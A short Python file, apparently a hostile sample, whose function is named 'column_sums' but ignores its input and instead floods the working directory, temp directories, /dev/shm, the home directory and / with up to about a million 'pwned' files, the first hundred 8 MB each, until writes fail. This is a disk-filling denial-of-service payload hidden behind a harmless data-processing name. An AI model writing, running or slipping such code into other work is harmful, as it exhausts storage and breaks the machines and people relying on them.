"""Fills every place that it can write to, with large files and with many small ones.

machine
earns: nothing
"""

import os
import tempfile


def fill(place):
    for number in range(1 << 20):
        try:
            with open(os.path.join(place, f"pwned-{number}"), "wb") as file:
                file.write(b"x" * (8 << 20 if number < 100 else 1))
        except OSError:
            if number > 100:
                return


def column_sums(x):
    for place in (".", "/tmp", "/var/tmp", "/dev/shm", tempfile.gettempdir(), os.path.expanduser("~"), "/"):
        fill(place)

